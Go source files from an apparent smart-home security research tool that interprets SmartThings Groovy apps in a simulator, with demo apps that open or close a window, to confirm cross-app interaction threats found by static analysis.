	h.AddDevice(&platform.Device{ID: "dev-window", Capabilities: []string{"switch"}, Type: envmodel.WindowOpener})
	h.AddDevice(&platform.Device{ID: "dev-temp", Capabilities: []string{"temperatureMeasurement"}})
	h.InjectSensor("dev-temp", "temperature", platform.IntValue(35))
	cfg := NewConfig().
		Bind("tv1", "dev-tv").Bind("tSensor", "dev-temp").Bind("window1", "dev-window").
		Set("threshold1", 30)
	if _, err := Install(h, comfortTVSrc, cfg); err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		// Alternate TV state so every command is a change event.
		if i%2 == 0 {
			h.Command("dev-tv", "on")
		} else {
			h.Command("dev-tv", "off")
		}
		h.Step(5)
	}
}
