package interp

import (
	"fmt"
	"strconv"
	"strings"

	"homeguard/internal/groovy"
	"homeguard/internal/platform"
	"homeguard/internal/rule"
	"homeguard/internal/symexec"
)

func (a *App) eval(x groovy.Expr, e *env) any {
	switch n := x.(type) {
	case *groovy.Ident:
		return a.evalIdent(n.Name, e)
	case *groovy.StrLit:
		return n.Value
	case *groovy.GStringLit:
		var sb strings.Builder
		for _, p := range n.Parts {
			if p.Expr != nil {
				sb.WriteString(str(a.eval(p.Expr, e)))
			} else {
				sb.WriteString(p.Text)
			}
		}
		return sb.String()
	case *groovy.NumLit:
		if n.IsInt {
			return n.Int
		}
		return int64(n.Float)
	case *groovy.BoolLit:
		return n.Value
	case *groovy.NullLit:
		return nil
	case *groovy.ListLit:
		out := make([]any, len(n.Elems))
		for i, el := range n.Elems {
			out[i] = a.eval(el, e)
		}
		return out
	case *groovy.MapLit:
		m := map[string]any{}
		for _, en := range n.Entries {
			m[str(a.eval(en.Key, e))] = a.eval(en.Value, e)
		}
		return m
	case *groovy.RangeLit:
		lo, _ := toInt(a.eval(n.Lo, e))
		hi, _ := toInt(a.eval(n.Hi, e))
		var out []any
		for i := lo; i <= hi && len(out) < loopCap; i++ {
			out = append(out, i)
		}
		return out
	case *groovy.PropertyGet:
		return a.evalProperty(n, e)
	case *groovy.IndexGet:
		recv := a.eval(n.Receiver, e)
		idx := a.eval(n.Index, e)
		switch r := recv.(type) {
		case map[string]any:
			return r[str(idx)]
		case []any:
			if i, ok := toInt(idx); ok && i >= 0 && int(i) < len(r) {
				return r[i]
			}
		case string:
			if i, ok := toInt(idx); ok && i >= 0 && int(i) < len(r) {
				return string(r[i])
			}
		}
		return nil
	case *groovy.Call:
		return a.evalCall(n, e)
	case *groovy.ClosureExpr:
		return &closureObj{cl: n, env: e}
	case *groovy.Unary:
		v := a.eval(n.X, e)
		switch n.Op {
		case groovy.Not:
			return !truthy(v)
		case groovy.Minus:
			if i, ok := toInt(v); ok {
				return -i
			}
		}
		return nil
	case *groovy.Binary:
		if n.Op == groovy.AndAnd {
			return truthy(a.eval(n.L, e)) && truthy(a.eval(n.R, e))
		}
		if n.Op == groovy.OrOr {
			return truthy(a.eval(n.L, e)) || truthy(a.eval(n.R, e))
		}
		return binop(n.Op, a.eval(n.L, e), a.eval(n.R, e))
	case *groovy.Ternary:
		if truthy(a.eval(n.Cond, e)) {
			return a.eval(n.Then, e)
		}
		return a.eval(n.Else, e)
	case *groovy.ElvisExpr:
		v := a.eval(n.Cond, e)
		if truthy(v) {
			return v
		}
		return a.eval(n.Else, e)
	case *groovy.NewExpr:
		return map[string]any{"type": n.Type}
	}
	return nil
}

func (a *App) evalIdent(name string, e *env) any {
	if v, ok := e.get(name); ok {
		return v
	}
	if in := a.info.Input(name); in != nil {
		return a.inputValue(in)
	}
	switch name {
	case "location":
		return locObj{app: a}
	case "state", "atomicState":
		return stateObj{app: a}
	case "settings":
		m := map[string]any{}
		for i := range a.info.Inputs {
			in := &a.info.Inputs[i]
			m[in.Name] = a.inputValue(in)
		}
		return m
	case "app":
		return map[string]any{"name": a.Name, "label": a.Name}
	case "it":
		return nil
	}
	// A bare reference to a user-defined method acts as a method pointer
	// (handler references in subscribe/runIn calls).
	if a.script.Method(name) != nil {
		return name
	}
	return nil
}

// inputValue resolves a bound input: device refs for device inputs,
// configured (or default) values otherwise.
func (a *App) inputValue(in *symexec.InputDecl) any {
	if in.IsDevice() {
		return &devRef{app: a, in: in, ids: a.cfg.Devices[in.Name]}
	}
	if v, ok := a.cfg.Values[in.Name]; ok {
		return normValue(v)
	}
	switch d := in.Default.(type) {
	case rule.IntVal:
		return int64(d)
	case rule.StrVal:
		return string(d)
	case rule.BoolVal:
		return bool(d)
	}
	return nil
}

func normValue(v any) any {
	switch x := v.(type) {
	case int:
		return int64(x)
	case []string:
		out := make([]any, len(x))
		for i, s := range x {
			out[i] = s
		}
		return out
	}
	return v
}

// ---------- property access ----------

func (a *App) evalProperty(n *groovy.PropertyGet, e *env) any {
	recv := a.eval(n.Receiver, e)
	switch r := recv.(type) {
	case *devRef:
		return a.deviceProperty(r, n.Name)
	case *evtObj:
		return r.property(n.Name)
	case locObj:
		switch n.Name {
		case "mode", "currentMode":
			return a.home.Mode()
		case "name":
			return "Home"
		case "timeZone":
			return map[string]any{"id": "UTC"}
		}
		return nil
	case stateObj:
		return r.app.state[n.Name]
	case map[string]any:
		return r[n.Name]
	case []any:
		switch n.Name {
		case "size":
			return int64(len(r))
		case "first":
			if len(r) > 0 {
				return r[0]
			}
		case "last":
			if len(r) > 0 {
				return r[len(r)-1]
			}
		}
	case string:
		if n.Name == "length" || n.Name == "size" {
			return int64(len(r))
		}
	}
	return nil
}

// deviceProperty reads device attributes: currentSwitch, id, label, ...
// For multi-device refs the first device's reading is returned (Groovy
// returns a list; apps in the corpus read single devices).
func (a *App) deviceProperty(d *devRef, name string) any {
	if len(d.ids) == 0 {
		return nil
	}
	dev, ok := a.home.Device(d.ids[0])
	if !ok {
		return nil
	}
	switch name {
	case "id":
		return string(dev.ID)
	case "label", "displayName", "name":
		return dev.Name
	case "size":
		return int64(len(d.ids))
	}
	if attr, found := strings.CutPrefix(name, "current"); found && attr != "" {
		return attrValue(dev, lowerFirst(attr))
	}
	return attrValue(dev, name)
}

func attrValue(dev *platform.Device, attr string) any {
	v, ok := dev.Attr(attr)
	if !ok {
		return nil
	}
	if v.IsInt {
		return v.Int
	}
	return v.Str
}

func lowerFirst(s string) string {
	if s == "" {
		return s
	}
	return strings.ToLower(s[:1]) + s[1:]
}

// property resolves evt.* reads.
func (o *evtObj) property(name string) any {
	switch name {
	case "value", "stringValue":
		return o.ev.Value.String()
	case "doubleValue", "integerValue", "numberValue", "numericValue", "floatValue", "longValue":
		if o.ev.Value.IsInt {
			return o.ev.Value.Int
		}
		if i, err := strconv.ParseInt(o.ev.Value.Str, 10, 64); err == nil {
			return i
		}
		return int64(0)
	case "name":
		return o.ev.Attribute
	case "device":
		// Wrap the source device as a single-device ref.
		if o.ev.Source == "location" || o.ev.Source == "app" {
			return nil
		}
		return &devRef{app: o.app, ids: []platform.DeviceID{platform.DeviceID(o.ev.Source)}}
	case "deviceId":
		return o.ev.Source
	case "isStateChange", "physical":
		return true
	case "date":
		return o.ev.Time
	}
	return nil
}

// ---------- calls ----------

func (a *App) evalCall(n *groovy.Call, e *env) any {
	// Evaluate arguments eagerly (closures stay lazy as closureObj).
	args := make([]any, len(n.Args))
	for i, arg := range n.Args {
		args[i] = a.eval(arg, e)
	}
	named := map[string]any{}
	for _, en := range n.Named {
		named[str(a.eval(en.Key, e))] = a.eval(en.Value, e)
	}

	if n.Receiver == nil {
		return a.callBare(n.Method, args, named, e)
	}
	recv := a.eval(n.Receiver, e)
	switch r := recv.(type) {
	case *devRef:
		return a.callDevice(r, n.Method, args)
	case *evtObj:
		return r.property(strings.TrimPrefix(n.Method, "get"))
	case locObj:
		switch n.Method {
		case "setMode":
			if len(args) > 0 {
				a.home.SetMode(str(args[0]))
			}
			return nil
		case "getMode":
			return a.home.Mode()
		}
		return nil
	case *closureObj:
		if n.Method == "call" {
			return a.callClosure(r, args)
		}
	case []any:
		return a.callList(r, n.Method, args)
	case map[string]any:
		switch n.Method {
		case "get":
			if len(args) >= 1 {
				return r[str(args[0])]
			}
		case "containsKey":
			if len(args) >= 1 {
				_, ok := r[str(args[0])]
				return ok
			}
		case "each":
			return a.callList(iterate(r), "each", args)
		}
		return nil
	case string:
		return callString(r, n.Method, args)
	case int64:
		switch n.Method {
		case "toInteger", "toLong", "intValue", "asType":
			return r
		case "toString":
			return str(r)
		}
		return nil
	}
	return nil
}

// callDevice issues device commands or reads attribute methods.
func (a *App) callDevice(d *devRef, method string, args []any) any {
	switch method {
	case "currentValue", "latestValue":
		if len(args) >= 1 && len(d.ids) > 0 {
			if dev, ok := a.home.Device(d.ids[0]); ok {
				return attrValue(dev, str(args[0]))
			}
		}
		return nil
	case "currentState", "latestState":
		if len(args) >= 1 && len(d.ids) > 0 {
			if dev, ok := a.home.Device(d.ids[0]); ok {
				return map[string]any{"value": attrValue(dev, str(args[0]))}
			}
		}
		return nil
	case "getId":
		if len(d.ids) > 0 {
			return string(d.ids[0])
		}
		return nil
	case "each", "findAll", "find", "collect", "any", "every":
		return a.callList(iterate(d), method, args)
	}
	if attr, found := strings.CutPrefix(method, "current"); found && attr != "" && len(args) == 0 {
		return a.deviceProperty(d, method)
	}
	// Device command: issue to every bound device.
	vals := make([]platform.Value, len(args))
	for i, arg := range args {
		vals[i] = toPlatformValue(arg)
	}
	for _, id := range d.ids {
		_ = a.home.Command(id, method, vals...) // unsupported commands are ignored
	}
	return nil
}

func toPlatformValue(v any) platform.Value {
	if i, ok := toInt(v); ok {
		return platform.IntValue(i)
	}
	return platform.StrValue(str(v))
}

// callList implements Groovy collection methods with closures.
func (a *App) callList(list []any, method string, args []any) any {
	var cl *closureObj
	for _, arg := range args {
		if c, ok := arg.(*closureObj); ok {
			cl = c
		}
	}
	switch method {
	case "each":
		if cl != nil {
			for _, el := range list {
				a.callClosure(cl, []any{el})
			}
		}
		return list
	case "collect":
		var out []any
		if cl != nil {
			for _, el := range list {
				out = append(out, a.callClosure(cl, []any{el}))
			}
		}
		return out
	case "find":
		if cl != nil {
			for _, el := range list {
				if truthy(a.callClosure(cl, []any{el})) {
					return el
				}
			}
		}
		return nil
	case "findAll":
		var out []any
		if cl != nil {
			for _, el := range list {
				if truthy(a.callClosure(cl, []any{el})) {
					out = append(out, el)
				}
			}
		}
		return out
	case "any":
		if cl != nil {
			for _, el := range list {
				if truthy(a.callClosure(cl, []any{el})) {
					return true
				}
			}
		}
		return false
	case "every":
		if cl != nil {
			for _, el := range list {
				if !truthy(a.callClosure(cl, []any{el})) {
					return false
				}
			}
		}
		return true
	case "size":
		return int64(len(list))
	case "contains":
		if len(args) >= 1 {
			for _, el := range list {
				if valueEq(el, args[0]) {
					return true
				}
			}
		}
		return false
	case "sum":
		var s int64
		for _, el := range list {
			if i, ok := toInt(el); ok {
				s += i
			}
		}
		return s
	case "join":
		sep := ","
		if len(args) >= 1 {
			sep = str(args[0])
		}
		parts := make([]string, len(list))
		for i, el := range list {
			parts[i] = str(el)
		}
		return strings.Join(parts, sep)
	}
	return nil
}

func (a *App) callClosure(c *closureObj, args []any) any {
	inner := newEnv(c.env)
	if len(c.cl.Params) == 0 {
		if len(args) > 0 {
			inner.define("it", args[0])
		}
	} else {
		for i, p := range c.cl.Params {
			if i < len(args) {
				inner.define(p.Name, args[i])
			} else {
				inner.define(p.Name, nil)
			}
		}
	}
	ctl := &control{}
	a.execBlock(c.cl.Body, inner, ctl)
	return ctl.retVal
}

func callString(s, method string, args []any) any {
	switch method {
	case "toInteger", "toLong":
		if i, err := strconv.ParseInt(strings.TrimSpace(s), 10, 64); err == nil {
			return i
		}
		return int64(0)
	case "toUpperCase":
		return strings.ToUpper(s)
	case "toLowerCase":
		return strings.ToLower(s)
	case "trim":
		return strings.TrimSpace(s)
	case "contains":
		if len(args) >= 1 {
			return strings.Contains(s, str(args[0]))
		}
	case "startsWith":
		if len(args) >= 1 {
			return strings.HasPrefix(s, str(args[0]))
		}
	case "endsWith":
		if len(args) >= 1 {
			return strings.HasSuffix(s, str(args[0]))
		}
	case "equals", "equalsIgnoreCase":
		if len(args) >= 1 {
			if method == "equalsIgnoreCase" {
				return strings.EqualFold(s, str(args[0]))
			}
			return s == str(args[0])
		}
	case "split":
		if len(args) >= 1 {
			parts := strings.Split(s, str(args[0]))
			out := make([]any, len(parts))
			for i, p := range parts {
				out[i] = p
			}
			return out
		}
	case "replace", "replaceAll":
		if len(args) >= 2 {
			return strings.ReplaceAll(s, str(args[0]), str(args[1]))
		}
	case "size", "length":
		return int64(len(s))
	case "toString":
		return s
	}
	return nil
}

// callBare dispatches implicit-this calls: SmartThings APIs first, then
// user-defined methods.
func (a *App) callBare(method string, args []any, named map[string]any, e *env) any {
	switch method {
	case "subscribe":
		a.apiSubscribe(args)
		return nil
	case "unsubscribe":
		a.home.UnsubscribeAll(a.subIDs)
		a.subIDs = nil
		return nil
	case "unschedule":
		return nil // simulator tasks are one-shot closures; nothing to cancel
	case "runIn":
		if len(args) >= 2 {
			delay, _ := toInt(args[0])
			name := handlerNameOf(args[1])
			a.home.Schedule(delay, a.Name+"."+name, func() { a.invokeByName(name) })
		}
		return nil
	case "runOnce":
		if len(args) >= 2 {
			name := handlerNameOf(args[1])
			a.home.Schedule(60, a.Name+"."+name, func() { a.invokeByName(name) })
		}
		return nil
	case "schedule":
		if len(args) >= 2 {
			name := handlerNameOf(args[1])
			var rearm func()
			rearm = func() {
				a.invokeByName(name)
				a.home.Schedule(86400, a.Name+"."+name, rearm)
			}
			a.home.Schedule(86400, a.Name+"."+name, rearm)
		}
		return nil
	case "runEvery1Minute", "runEvery5Minutes", "runEvery10Minutes",
		"runEvery15Minutes", "runEvery30Minutes", "runEvery1Hour", "runEvery3Hours":
		if len(args) >= 1 {
			name := handlerNameOf(args[0])
			period := periodSeconds(method)
			var rearm func()
			rearm = func() {
				a.invokeByName(name)
				a.home.Schedule(period, a.Name+"."+name, rearm)
			}
			a.home.Schedule(period, a.Name+"."+name, rearm)
		}
		return nil
	case "setLocationMode":
		if len(args) >= 1 {
			a.home.SetMode(str(args[0]))
		}
		return nil
	case "sendSms", "sendSmsMessage":
		if len(args) >= 2 {
			a.home.SendSms(str(args[0]), str(args[1]))
		}
		return nil
	case "sendPush", "sendPushMessage", "sendNotification", "sendNotificationEvent":
		if len(args) >= 1 {
			a.home.SendSms("push", str(args[0]))
		}
		return nil
	case "httpGet", "httpPost", "httpPut", "httpDelete", "httpHead",
		"httpPostJson", "httpPutJson":
		a.home.Messages = append(a.home.Messages, "http:"+method)
		return nil
	case "sendHubCommand":
		a.home.Messages = append(a.home.Messages, "hub:"+fmt.Sprint(args))
		return nil
	case "now":
		return a.home.Clock() * 1000
	case "timeOfDayIsBetween":
		// Concrete check over the simulated time of day.
		if len(args) >= 2 {
			from, _ := toInt(args[0])
			to, _ := toInt(args[1])
			tod := a.home.Env().TimeOfDay
			return tod >= from && tod <= to
		}
		return false
	case "getSunriseAndSunset":
		return map[string]any{"sunrise": int64(6 * 60), "sunset": int64(19 * 60)}
	case "log":
		return nil
	case "pause":
		return nil
	}
	if strings.HasPrefix(method, "log") {
		return nil
	}
	// User-defined method.
	if m := a.script.Method(method); m != nil {
		return a.invoke(m, args)
	}
	return nil
}

func periodSeconds(api string) int64 {
	switch api {
	case "runEvery1Minute":
		return 60
	case "runEvery5Minutes":
		return 300
	case "runEvery10Minutes":
		return 600
	case "runEvery15Minutes":
		return 900
	case "runEvery30Minutes":
		return 1800
	case "runEvery1Hour":
		return 3600
	case "runEvery3Hours":
		return 10800
	}
	return 3600
}

func handlerNameOf(v any) string {
	switch x := v.(type) {
	case string:
		return x
	case *closureObj:
		return ""
	}
	return str(v)
}

// apiSubscribe wires subscribe(dev, "attr[.value]", handler) to the bus.
func (a *App) apiSubscribe(args []any) {
	if len(args) < 2 {
		return
	}
	var sources []string
	attr, filter := "", ""
	handler := ""
	switch src := args[0].(type) {
	case *devRef:
		for _, id := range src.ids {
			sources = append(sources, string(id))
		}
	case locObj:
		sources = []string{"location"}
		attr = "mode"
	case map[string]any:
		sources = []string{"app"}
		attr = "touch"
	default:
		if s := str(src); s == "app" {
			sources = []string{"app"}
			attr = "touch"
		}
	}
	if len(args) == 2 {
		handler = str(args[1])
		if _, isApp := args[0].(map[string]any); isApp || attr == "touch" {
			sources = []string{"app"}
			attr = "touch"
		}
	} else {
		spec := str(args[1])
		handler = str(args[2])
		if dot := strings.IndexByte(spec, '.'); dot >= 0 {
			attr, filter = spec[:dot], spec[dot+1:]
		} else {
			attr = spec
		}
	}
	if handler == "" || attr == "" {
		return
	}
	h := handler
	for _, src := range sources {
		id := a.home.Subscribe(src, attr, filter, func(ev platform.Event) {
			a.invokeByName(h, &evtObj{ev: ev, app: a})
		})
		a.subIDs = append(a.subIDs, id)
	}
}

// ---------- helpers ----------

func truthy(v any) bool {
	switch x := v.(type) {
	case nil:
		return false
	case bool:
		return x
	case int64:
		return x != 0
	case string:
		return x != ""
	case []any:
		return len(x) > 0
	case map[string]any:
		return len(x) > 0
	case *devRef:
		return len(x.ids) > 0
	}
	return true
}

func str(v any) string {
	switch x := v.(type) {
	case nil:
		return "null"
	case string:
		return x
	case int64:
		return strconv.FormatInt(x, 10)
	case bool:
		if x {
			return "true"
		}
		return "false"
	case *devRef:
		if len(x.ids) > 0 {
			return string(x.ids[0])
		}
		return ""
	}
	return fmt.Sprint(v)
}

func toInt(v any) (int64, bool) {
	switch x := v.(type) {
	case int64:
		return x, true
	case int:
		return int64(x), true
	case bool:
		if x {
			return 1, true
		}
		return 0, true
	case string:
		if i, err := strconv.ParseInt(strings.TrimSpace(x), 10, 64); err == nil {
			return i, true
		}
	}
	return 0, false
}

func valueEq(a, b any) bool {
	if ai, ok := toInt(a); ok {
		if bi, ok2 := toInt(b); ok2 {
			return ai == bi
		}
	}
	return str(a) == str(b)
}

func binop(op groovy.Kind, l, r any) any {
	switch op {
	case groovy.Plus:
		if li, ok := toInt(l); ok {
			if ri, ok2 := toInt(r); ok2 {
				return li + ri
			}
		}
		return str(l) + str(r)
	case groovy.Minus:
		li, _ := toInt(l)
		ri, _ := toInt(r)
		return li - ri
	case groovy.Star:
		li, _ := toInt(l)
		ri, _ := toInt(r)
		return li * ri
	case groovy.Slash:
		li, _ := toInt(l)
		ri, _ := toInt(r)
		if ri == 0 {
			return int64(0)
		}
		return li / ri
	case groovy.Percent:
		li, _ := toInt(l)
		ri, _ := toInt(r)
		if ri == 0 {
			return int64(0)
		}
		return li % ri
	case groovy.Eq:
		return valueEq(l, r)
	case groovy.NotEq:
		return !valueEq(l, r)
	case groovy.Lt, groovy.LtEq, groovy.Gt, groovy.GtEq:
		li, lok := toInt(l)
		ri, rok := toInt(r)
		if lok && rok {
			switch op {
			case groovy.Lt:
				return li < ri
			case groovy.LtEq:
				return li <= ri
			case groovy.Gt:
				return li > ri
			case groovy.GtEq:
				return li >= ri
			}
		}
		ls, rs := str(l), str(r)
		switch op {
		case groovy.Lt:
			return ls < rs
		case groovy.LtEq:
			return ls <= rs
		case groovy.Gt:
			return ls > rs
		case groovy.GtEq:
			return ls >= rs
		}
	case groovy.KwIn:
		if list, ok := r.([]any); ok {
			for _, el := range list {
				if valueEq(l, el) {
					return true
				}
			}
			return false
		}
		return false
	}
	return nil
}
