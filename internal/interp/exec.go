package interp

import (
	"homeguard/internal/groovy"
	"homeguard/internal/platform"
)

// loopCap bounds concrete loop iterations defensively.
const loopCap = 100000

func (a *App) execBlock(b *groovy.Block, e *env, ctl *control) {
	for _, s := range b.Stmts {
		a.execStmt(s, e, ctl)
		if ctl.stop() {
			return
		}
	}
}

func (a *App) execStmt(s groovy.Stmt, e *env, ctl *control) {
	switch n := s.(type) {
	case *groovy.ExprStmt:
		a.eval(n.X, e)
	case *groovy.DeclStmt:
		var v any
		if n.Init != nil {
			v = a.eval(n.Init, e)
		}
		e.define(n.Name, v)
	case *groovy.AssignStmt:
		a.execAssign(n, e)
	case *groovy.IfStmt:
		if truthy(a.eval(n.Cond, e)) {
			a.execBlock(n.Then, newEnv(e), ctl)
		} else if n.Else != nil {
			a.execStmt(n.Else, newEnv(e), ctl)
		}
	case *groovy.Block:
		a.execBlock(n, newEnv(e), ctl)
	case *groovy.SwitchStmt:
		a.execSwitch(n, e, ctl)
	case *groovy.ReturnStmt:
		if n.Value != nil {
			ctl.retVal = a.eval(n.Value, e)
		}
		ctl.ret = true
	case *groovy.BreakStmt:
		ctl.brk = true
	case *groovy.ContinueStmt:
		ctl.cont = true
	case *groovy.WhileStmt:
		for i := 0; i < loopCap && truthy(a.eval(n.Cond, e)); i++ {
			a.execBlock(n.Body, newEnv(e), ctl)
			if ctl.cont {
				ctl.cont = false
				continue
			}
			if ctl.brk {
				ctl.brk = false
				return
			}
			if ctl.ret {
				return
			}
		}
	case *groovy.ForStmt:
		a.execFor(n, e, ctl)
	case *groovy.MethodDecl:
		// nothing at runtime
	}
}

func (a *App) execAssign(n *groovy.AssignStmt, e *env) {
	var v any
	if n.Op == groovy.Assign {
		v = a.eval(n.Value, e)
	} else {
		cur := a.eval(n.Target, e)
		rhs := a.eval(n.Value, e)
		op := map[groovy.Kind]groovy.Kind{
			groovy.PlusAssign:  groovy.Plus,
			groovy.MinusAssign: groovy.Minus,
			groovy.StarAssign:  groovy.Star,
			groovy.SlashAssign: groovy.Slash,
		}[n.Op]
		v = binop(op, cur, rhs)
	}
	switch t := n.Target.(type) {
	case *groovy.Ident:
		e.set(t.Name, v)
	case *groovy.PropertyGet:
		recv := a.eval(t.Receiver, e)
		switch r := recv.(type) {
		case stateObj:
			r.app.state[t.Name] = v
		case map[string]any:
			r[t.Name] = v
		}
	case *groovy.IndexGet:
		recv := a.eval(t.Receiver, e)
		idx := a.eval(t.Index, e)
		switch r := recv.(type) {
		case map[string]any:
			r[str(idx)] = v
		case []any:
			if i, ok := toInt(idx); ok && i >= 0 && int(i) < len(r) {
				r[i] = v
			}
		}
	}
}

// execSwitch implements Groovy/Java fallthrough semantics: execution
// starts at the first matching case and continues until break/return.
func (a *App) execSwitch(n *groovy.SwitchStmt, e *env, ctl *control) {
	subj := a.eval(n.Subject, e)
	matched := false
	run := func(b *groovy.Block) bool {
		a.execBlock(b, newEnv(e), ctl)
		if ctl.brk {
			ctl.brk = false
			return true // stop
		}
		return ctl.ret
	}
	for _, cs := range n.Cases {
		if !matched {
			cv := a.eval(cs.Value, e)
			if valueEq(subj, cv) {
				matched = true
			}
		}
		if matched {
			if run(cs.Body) {
				return
			}
		}
	}
	// Reaching this point means either no case matched, or a matching case
	// fell through without break/return — both execute the default.
	if n.Default != nil {
		run(n.Default)
	}
}

func (a *App) execFor(n *groovy.ForStmt, e *env, ctl *control) {
	if n.IsForIn() {
		it := a.eval(n.Iterable, e)
		for _, el := range iterate(it) {
			inner := newEnv(e)
			inner.define(n.Var, el)
			a.execBlock(n.Body, inner, ctl)
			if ctl.cont {
				ctl.cont = false
				continue
			}
			if ctl.brk {
				ctl.brk = false
				return
			}
			if ctl.ret {
				return
			}
		}
		return
	}
	inner := newEnv(e)
	if n.Init != nil {
		a.execStmt(n.Init, inner, ctl)
	}
	for i := 0; i < loopCap; i++ {
		if n.Cond != nil && !truthy(a.eval(n.Cond, inner)) {
			return
		}
		a.execBlock(n.Body, newEnv(inner), ctl)
		if ctl.cont {
			ctl.cont = false
		}
		if ctl.brk {
			ctl.brk = false
			return
		}
		if ctl.ret {
			return
		}
		if n.Post != nil {
			a.execStmt(n.Post, inner, ctl)
		}
	}
}

// iterate converts a value into a concrete element sequence.
func iterate(v any) []any {
	switch x := v.(type) {
	case []any:
		return x
	case []string:
		out := make([]any, len(x))
		for i, s := range x {
			out[i] = s
		}
		return out
	case *devRef:
		// Iterating a device collection yields single-device refs.
		out := make([]any, len(x.ids))
		for i, id := range x.ids {
			out[i] = &devRef{app: x.app, in: x.in, ids: []platform.DeviceID{id}}
		}
		return out
	case map[string]any:
		out := make([]any, 0, len(x))
		for k, val := range x {
			out = append(out, map[string]any{"key": k, "value": val})
		}
		return out
	}
	return nil
}
