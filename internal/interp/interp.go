// Package interp is a concrete interpreter for SmartApp Groovy: it
// installs apps into the platform simulator and executes their handlers
// with real values, so CAI threats discovered statically can be verified
// dynamically (the paper's exploitation experiments, Sec. VIII-A).
package interp

import (
	"fmt"

	"homeguard/internal/groovy"
	"homeguard/internal/platform"
	"homeguard/internal/symexec"
)

// Config binds an app's inputs at installation.
type Config struct {
	// Devices maps device-input names to one or more device IDs
	// (multiple-select inputs bind several).
	Devices map[string][]platform.DeviceID
	// Values maps value-input names to concrete values (int64, string,
	// bool, []string).
	Values map[string]any
}

// NewConfig returns an empty binding.
func NewConfig() *Config {
	return &Config{Devices: map[string][]platform.DeviceID{}, Values: map[string]any{}}
}

// Bind adds a single-device binding.
func (c *Config) Bind(input string, ids ...platform.DeviceID) *Config {
	c.Devices[input] = ids
	return c
}

// Set adds a value binding.
func (c *Config) Set(input string, v any) *Config {
	c.Values[input] = v
	return c
}

// App is one installed, running SmartApp.
type App struct {
	Name   string
	script *groovy.Script
	info   symexec.AppInfo
	home   *platform.Home
	cfg    *Config
	state  map[string]any
	subIDs []int
}

// Install parses src, binds cfg and runs the app's installed() lifecycle
// method against the home.
func Install(home *platform.Home, src string, cfg *Config) (*App, error) {
	script, err := groovy.Parse(src)
	if err != nil {
		return nil, fmt.Errorf("interp: %w", err)
	}
	info := symexec.ScanPreferences(script)
	if cfg == nil {
		cfg = NewConfig()
	}
	app := &App{
		Name:   info.Name,
		script: script,
		info:   info,
		home:   home,
		cfg:    cfg,
		state:  map[string]any{},
	}
	if m := script.Method("installed"); m != nil {
		app.invoke(m, nil)
	}
	return app, nil
}

// Update re-runs the updated() lifecycle method (after configuration
// changes).
func (a *App) Update() {
	if m := a.script.Method("updated"); m != nil {
		a.invoke(m, nil)
	}
}

// Touch simulates tapping the app button: SmartThings fires an app event.
func (a *App) Touch() { a.home.AppTouch() }

// State exposes the app's persistent state for assertions.
func (a *App) State() map[string]any { return a.state }

// invoke runs a method with arguments, returning its return value.
func (a *App) invoke(m *groovy.MethodDecl, args []any) any {
	env := newEnv(nil)
	for i, p := range m.Params {
		if i < len(args) {
			env.define(p.Name, args[i])
		} else if p.Default != nil {
			env.define(p.Name, a.eval(p.Default, env))
		} else {
			env.define(p.Name, nil)
		}
	}
	ctl := &control{}
	a.execBlock(m.Body, env, ctl)
	return ctl.retVal
}

// invokeByName runs a named method (for handlers and scheduled methods).
func (a *App) invokeByName(name string, args ...any) {
	if m := a.script.Method(name); m != nil {
		a.invoke(m, args)
	}
}

// ---------- runtime structures ----------

type env struct {
	vars   map[string]any
	parent *env
}

func newEnv(parent *env) *env { return &env{vars: map[string]any{}, parent: parent} }

func (e *env) get(name string) (any, bool) {
	for s := e; s != nil; s = s.parent {
		if v, ok := s.vars[name]; ok {
			return v, true
		}
	}
	return nil, false
}

func (e *env) set(name string, v any) {
	for s := e; s != nil; s = s.parent {
		if _, ok := s.vars[name]; ok {
			s.vars[name] = v
			return
		}
	}
	e.vars[name] = v
}

func (e *env) define(name string, v any) { e.vars[name] = v }

// control carries return/break/continue signals.
type control struct {
	ret    bool
	retVal any
	brk    bool
	cont   bool
}

func (c *control) stop() bool { return c.ret || c.brk || c.cont }

// devRef is a bound device input (possibly multiple devices).
type devRef struct {
	app *App
	in  *symexec.InputDecl
	ids []platform.DeviceID
}

// evtObj is the event passed to handlers.
type evtObj struct {
	ev  platform.Event
	app *App
}

// closureObj is a closure with its captured environment.
type closureObj struct {
	cl  *groovy.ClosureExpr
	env *env
}

// locObj is the `location` object.
type locObj struct{ app *App }

// stateObj is the `state` map.
type stateObj struct{ app *App }
