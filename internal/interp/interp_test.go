package interp

import (
	"strings"
	"testing"

	"homeguard/internal/envmodel"
	"homeguard/internal/platform"
)

const comfortTVSrc = `
definition(name: "ComfortTV", namespace: "repro", author: "x",
    description: "Open the window when the TV turns on and it is hot.", category: "Convenience")
input "tv1", "capability.switch"
input "tSensor", "capability.temperatureMeasurement"
input "threshold1", "number"
input "window1", "capability.switch"
def installed() { subscribe(tv1, "switch", onHandler) }
def updated() { unsubscribe(); subscribe(tv1, "switch", onHandler) }
def onHandler(evt) {
    def t = tSensor.currentValue("temperature")
    if ((evt.value == "on") && (t > threshold1)) turnOnWindow()
}
def turnOnWindow() {
    if (window1.currentSwitch == "off")
        window1.on()
}
`

const coldDefenderSrc = `
definition(name: "ColdDefender", namespace: "repro", author: "x",
    description: "Close the window when the TV is on while it rains.", category: "Safety")
input "tv1", "capability.switch"
input "window1", "capability.switch"
input "weather", "enum", options: ["sunny", "rainy", "cloudy"]
def installed() { subscribe(tv1, "switch.on", onHandler) }
def onHandler(evt) {
    if (weather == "rainy") {
        window1.off()
    }
}
`

func demoHome(seed int64) (*platform.Home, *platform.Device, *platform.Device, *platform.Device) {
	h := platform.NewHome(seed)
	tv := h.AddDevice(&platform.Device{
		ID: "dev-tv", Name: "living room tv",
		Capabilities: []string{"switch"}, Type: envmodel.TV, WattsOn: 120,
	})
	win := h.AddDevice(&platform.Device{
		ID: "dev-window", Name: "window opener",
		Capabilities: []string{"switch"}, Type: envmodel.WindowOpener, WattsOn: 10,
	})
	temp := h.AddDevice(&platform.Device{
		ID: "dev-temp", Name: "temp sensor",
		Capabilities: []string{"temperatureMeasurement"},
	})
	return h, tv, win, temp
}

func TestComfortTVOpensWindowWhenHot(t *testing.T) {
	h, _, win, _ := demoHome(1)
	h.InjectSensor("dev-temp", "temperature", platform.IntValue(35))
	cfg := NewConfig().
		Bind("tv1", "dev-tv").Bind("tSensor", "dev-temp").Bind("window1", "dev-window").
		Set("threshold1", 30)
	if _, err := Install(h, comfortTVSrc, cfg); err != nil {
		t.Fatal(err)
	}
